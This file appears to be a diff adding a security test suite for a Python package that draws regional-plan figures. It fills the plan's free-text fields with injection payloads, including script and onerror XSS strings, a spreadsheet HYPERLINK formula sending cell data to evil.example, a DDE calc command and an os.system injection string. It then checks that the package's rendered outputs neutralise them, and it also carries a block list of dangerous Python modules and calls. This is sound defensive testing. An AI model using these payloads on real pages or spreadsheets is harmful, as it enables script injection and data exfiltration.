@@ -1,0 +1,183 @@
+"""A plan whose every free text tries something: it is drawn, printed and rendered as text that does nothing.
+
+The pages of the site are tested in tests/pages, where a run and its error are hostile, too.
+"""
+
+import ast
+import csv
+import io
+import json
+import re
+import shutil
+import zipfile
+from pathlib import Path
+
+import pandas as pd
+import pytest
+from bs4 import BeautifulSoup
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+import lnregions as ln
+from lnregions.__main__ import main
+from lnregions.figures.figure_kit import bundle_zip
+from lnregions.figures.figure_words import plain_markdown
+from lnregions.figures.figures import data_csv
+from lnregions.paths import data_dir
+
+pytestmark = [pytest.mark.filterwarnings("ignore::lnregions.errors.InputWarning"),
+              pytest.mark.filterwarnings("ignore::bs4.XMLParsedAsHTMLWarning")]  # fmt: skip
+SOURCES = sorted((Path(__file__).parents[2] / "lnregions").rglob("*.py"))
+EVIL = """<script>alert(1)</script>"'><img src=x onerror=alert(1)>{{7*7}}${7*7}</title></script><!--"""
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+MARKDOWN = "[click](javascript:alert(1)) ![x](http://evil.example/x.png) `code` # head"
+CODE = '"""+__import__(\'os\').system(\'touch /tmp/owned\')+"""\'\\'
+TEXTS = (EVIL, FORMULA, MARKDOWN, CODE, "$x^2$ \\alpha {braces} %s %(x)s", "@SUM(1+1)*cmd|' /C calc'!A0")
+FREE = {
+    "regions.csv": ("name_zh", "name_en", "short_zh", "short_en", "nickname", "nickname_zh"),
+    "positioning.csv": ("text_zh", "text_en"),
+    "membership.csv": ("note", "note_zh"),
+    "targets.csv": ("label_zh", "label_en", "wording_zh", "clause_en", "note_zh", "note_en"),
+}
+FACTS = r"( *(?:- )?(?:title_zh|title_en|short_zh|short_en|number|issuer_zh|issuer_en|title|publisher)): .*"
+
+
+@pytest.fixture(scope="module")
+def plan(tmp_path_factory):
+    """A copy of the shipped plan with those texts, in turn, for every free text of its tables and facts."""
+    folder = shutil.copytree(data_dir() / "plans" / "ln-2022", tmp_path_factory.mktemp("evil") / "plan")
+    for name, columns in FREE.items():
+        table = pd.read_csv(folder / name, dtype=str, keep_default_na=False)
+        for place, column in enumerate(columns):
+            table[column] = [TEXTS[(n + place) % len(TEXTS)] for n in range(len(table))]
+        table.to_csv(folder / name, index=False, lineterminator="\n")
+    lines = (folder / "plan.yaml").read_text("utf-8").splitlines()
+    quoted = [text.replace("'", "''") for text in TEXTS]
+    for n, line in enumerate(lines):
+        hit = re.fullmatch(FACTS, line)
+        lines[n] = f"{hit[1]}: '{quoted[n % len(quoted)]}'" if hit else line
+    (folder / "plan.yaml").write_text("\n".join(lines) + "\n", "utf-8")
+    return ln.load_plan(path=folder)
+
+
+def acts(page: str) -> list[str]:
+    """What in a page would run or fetch something: handlers, addresses, scripts that the plan wrote."""
+    soup, found = BeautifulSoup(page, "html.parser"), []
+    for tag in soup.find_all(True):
+        for name, value in tag.attrs.items():
+            value = " ".join(value) if isinstance(value, list) else str(value)
+            fetched = name.casefold() in (
+                "href",
+                "src",
+                "action",
+                "formaction",
+                "data",
+                "xlink:href",
+                "srcset",
+            )
+            active = re.match(r"\s*(javascript|vbscript|file|data:text|https?://evil)|x$", value, re.I)
+            if name.casefold().startswith("on") or (fetched and active):
+                found.append(f"<{tag.name} {name}={value!r}>")
+    scripts = [tag for tag in soup.find_all("script") if tag.get("type") != "application/json"]
+    return found + [str(tag)[:80] for tag in scripts if "alert(1)" in (tag.string or "")]
+
+
+def formulas(text: str) -> list[str]:
+    """Cells of a CSV text that a spreadsheet would run."""
+    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
+    number = re.compile(r"[+-]?[\d.,]+(e[+-]?\d+)?%?", re.I | re.A)
+    return [
+        cell for cell in cells if re.match(r"\s*[=+\-@|\t\r＝＋－＠]", cell) and not number.fullmatch(cell)
+    ]
+
+
+def test_these_tests_see_an_attack():
+    assert acts(EVIL)
+    assert acts('<a href=" JavaScript:alert(1)">x</a>')
+    assert formulas(f'a,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n')
+    assert not acts("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>")
+    assert not formulas("-3.5,+2,a=1\n")
+
+
+PICTURES = {
+    "scorecard": lambda plan, language: ln.draw_scorecard(plan, ln.judge(plan), language=language),
+    "targets": lambda plan, language: ln.draw_targets(plan, "belt", language=language),
+    "membership": lambda plan, language: ln.draw_membership(plan, language=language),
+    "map": lambda plan, language: ln.draw_map(plan, "circle", "gdp", language=language),
+}
+
+
+@pytest.mark.parametrize("kind", PICTURES)
+def test_a_picture_and_its_bundle_carry_text_and_nothing_that_acts(plan, kind, tmp_path):
+    for language in ("en", "zh"):
+        drawn = PICTURES[kind](plan, language)
+        for picture in drawn if isinstance(drawn, (list, tuple)) else [drawn]:
+            picture.save(tmp_path / language)
+    written = [path for path in tmp_path.rglob("*") if path.is_file()]
+    assert {path.suffix for path in written} >= {".svg", ".csv", ".json", ".md"}
+    for path in written:
+        if path.suffix == ".svg":
+            assert acts(path.read_text("utf-8")) == []
+        elif path.suffix == ".csv":
+            assert formulas(path.read_text("utf-8")) == []
+        elif path.suffix == ".md":
+            text = re.sub(r"\\\[[^\n]*?\]\(", "", path.read_text("utf-8"))
+            assert not re.search(r"(?<!\\)(\\\\)*(\]\(|<script|<img)", text)
+    with zipfile.ZipFile(bundle_zip(tmp_path, tmp_path / "kit.zip", title=MARKDOWN)) as file:
+        assert not any(name.startswith(("/", "..")) or "\\" in name for name in file.namelist())
+        assert "\\[click](javascript" in file.read("README.md").decode()
+
+
+@settings(max_examples=150, deadline=None)
+@given(st.text(st.sampled_from("[]()<>!\\`*a\n"), max_size=12))
+def test_no_text_becomes_a_link_a_picture_or_a_tag_in_markdown(text):
+    mistune = pytest.importorskip("mistune")
+    page = str(mistune.html("x " + plain_markdown(text + "[x](javascript:alert(1))<b onclick=x>")))
+    assert not BeautifulSoup(page, "html.parser").find(["a", "img", "b", "script"])
+
+
+@pytest.mark.parametrize("sign", [*"=+-@\t\r|＝＋－＠", " =", "\n="])
+def test_no_cell_of_a_csv_begins_like_a_formula(sign):
+    text = data_csv(pd.DataFrame({f"{sign}head": [f"{sign}cmd|' /C calc'!A0", "-3.5", "plain"]}))
+    assert formulas(text) == []
+    assert "\n-3.5\n" in text
+
+
+def test_verdicts_printed_as_csv_hold_no_formula(plan, capsys):
+    assert main(["verdicts", "--plan", str(plan.folder), "--format", "csv"]) == 0
+    assert formulas(capsys.readouterr().out) == []
+
+
+def test_a_notebook_run_on_a_hostile_plan_holds_nothing_that_acts(plan, tmp_path):
+    out = tmp_path / "out"
+    words = ["render", "01_plan", "--language", "en", "--jobs", "1", "--no-report", "--quiet", "--plan"]
+    assert main([*words, str(plan.folder), "--output", str(out)]) == 0
+    (book,) = out.rglob("*.ipynb")
+    outputs = [
+        one for cell in json.loads(book.read_text("utf-8"))["cells"] for one in cell.get("outputs", [])
+    ]
+    assert not any("application/javascript" in one.get("data", {}) for one in outputs)
+    assert acts("".join("".join(one.get("data", {}).get("text/html", "")) for one in outputs)) == []
+    for page in out.rglob("*.html"):
+        assert acts(page.read_text("utf-8")) == []
+    places = {path.resolve().relative_to(out.resolve()).parts[0] for path in out.rglob("*") if path.is_file()}
+    assert places <= {"en", "manifest.json", ".lnregions"}
+
+
+# ---- code ----
+
+DANGEROUS = {"shelve", "marshal", "dill", "joblib", "xml", "lxml", "xmlrpc", "telnetlib", "ftplib", "pty"}
+FORBIDDEN = {
+    "eval", "exec", "compile", "os.system", "os.popen", "pickle.load", "pickle.loads", "pd.read_pickle", "yaml.load",
+    "yaml.unsafe_load", "tempfile.mktemp", "np.load", "pd.eval",
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("path", SOURCES, ids=[path.stem for path in SOURCES])
+def test_no_module_reads_pickles_or_xml_or_runs_text_as_code(path):
+    nodes = list(ast.walk(ast.parse(path.read_text("utf-8"))))
+    names = {alias.name for node in nodes if isinstance(node, ast.Import) for alias in node.names}
+    names |= {node.module or "" for node in nodes if isinstance(node, ast.ImportFrom)}
+    assert not {name.split(".")[0] for name in names} & DANGEROUS
+    assert not {ast.unparse(node.func) for node in nodes if isinstance(node, ast.Call)} & FORBIDDEN
+    assert not [node for node in nodes if isinstance(node, ast.keyword) and node.arg == "shell"]
